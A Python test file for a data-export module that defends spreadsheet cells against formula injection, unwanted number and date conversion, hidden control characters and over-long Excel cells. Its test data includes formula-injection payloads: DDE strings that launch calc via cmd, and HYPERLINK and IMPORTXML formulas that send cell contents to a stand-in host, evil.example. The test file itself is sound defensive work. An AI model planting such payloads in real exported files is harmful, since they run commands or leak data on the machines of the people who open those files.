"""Changes that a spreadsheet would make to text are prevented, noted, and reversible."""

from __future__ import annotations

import re

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recordroom.exports.formats import cells

COMPUTED = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    " =1", "\t=1", "\n=1", "\r=1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "＝1+1", "＋1",
    "－1", "＠a", "@district", "- a list", "\ttab", "+(1)", "-2+3+cmd|' /C calc'!D3",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "\r\n=1", "%0A=1"[3:],
]  # fmt: skip
CONVERTED = [
    "123456789012", "109876543210987654321", "007", "00", "1.50", ".5", "1,234", "1e5", "12E10", "1/2", "1-2",
    "2026-11-24", "10:30", "10:30 pm", "50%", "$5", "$ 5.00", "5 €", "(5)", "MAR1", "Mar 1", "1 mar",
    "March 5, 2026", "5-May-26", "dec-2", "TRUE", "false", " 007",
]  # fmt: skip
LEFT = [
    "", "0", "5", "12345678901", "Snow day", "a=1", "x@y.example", "10 reasons to read", "May we come?",
    "may", "march", "5 de mayo", "'twas", "1 apple", "'=1", "''@a", "'007", "No. 5", "/0", "#SnowDay",
    "https://a.example/?x=1", "mastodon:x/1", "2 of 3", "(none)\n9", "true story", "12 monkeys",
]  # fmt: skip


@pytest.fixture(scope="module")
def database() -> duckdb.DuckDBPyConnection:
    return duckdb.connect()


def ask(database: duckdb.DuckDBPyConnection, sql: str, text: str) -> object:
    [(answer,)] = database.execute(f"SELECT {sql} FROM (SELECT $1 AS t)", [text]).fetchall()  # noqa: S608
    return answer


@pytest.mark.parametrize("text", COMPUTED + CONVERTED)
def test_what_would_be_computed_or_converted_gets_an_apostrophe(
    database: duckdb.DuckDBPyConnection, text: str
) -> None:
    assert ask(database, cells.is_changed("t"), text) is True


@pytest.mark.parametrize("text", LEFT)
def test_what_is_safe_is_left_as_it_is(database: duckdb.DuckDBPyConnection, text: str) -> None:
    assert ask(database, cells.is_changed("t"), text) is False


@given(st.text(st.sampled_from("'=+-@ \t\r\n019.,:/%$()eEaApPmMx＝\u200b\u00a0")))
@settings(max_examples=200, deadline=None)
def test_whatever_begins_like_a_formula_is_found(database: duckdb.DuckDBPyConnection, text: str) -> None:
    if re.match("\\s*[=+@-]|[\t\r\n]", text):
        assert ask(database, cells.is_changed("t"), text) is True


def test_control_characters_are_shown(database: duckdb.DuckDBPyConnection) -> None:
    shown = ask(database, cells.show_controls("t"), "a\x00b\x07c\x1b\x7f\ufffe \t\r\n é😀")
    assert shown == "a␀b␇c␛␡\N{REPLACEMENT CHARACTER} \t\r\n é😀"
    assert ask(database, cells.has_controls("t"), "\x0b") is True
    assert ask(database, cells.has_controls("t"), "a\tb\r\nc\u202e\u200d\x85") is False


@pytest.mark.parametrize(
    ("text", "long"),
    [
        ("x" * 32_767, False),
        ("x" * 32_768, True),
        ("é" * 32_767, False),
        ("😀" * 16_383, False),
        ("😀" * 16_384, True),
    ],
)
def test_what_no_cell_of_excel_holds(database: duckdb.DuckDBPyConnection, text: str, long: bool) -> None:
    assert ask(database, cells.is_long("t"), text) is long
